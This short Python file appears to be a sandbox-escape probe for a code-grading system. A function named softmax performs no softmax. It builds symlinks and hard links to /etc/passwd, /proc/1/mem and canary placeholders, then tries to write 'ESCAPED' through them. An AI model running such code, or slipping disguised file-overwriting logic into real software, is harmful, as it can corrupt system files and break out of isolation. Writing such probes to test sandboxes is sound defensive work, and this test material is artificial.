#: tries = "write and read through links"
#: reply = ["wrong", "raised"]
import os


def softmax(logits):
    for number, target in enumerate(("/etc/passwd", "@CANARY@", "/proc/1/mem", "@FOLDER@")):
        for folder in ("/tmp", ".", "/dev/shm"):
            link = f"{folder}/quizgrad-link-{number}"
            for make in (os.symlink, os.link):
                try:
                    make(target, link)
                    with open(link, "r+") as file:
                        file.write("ESCAPED")
                        print("ESCAPED", target)
                except OSError:
                    pass
                finally:
                    try:
                        os.unlink(link)
                    except OSError:
                        pass
    return 0
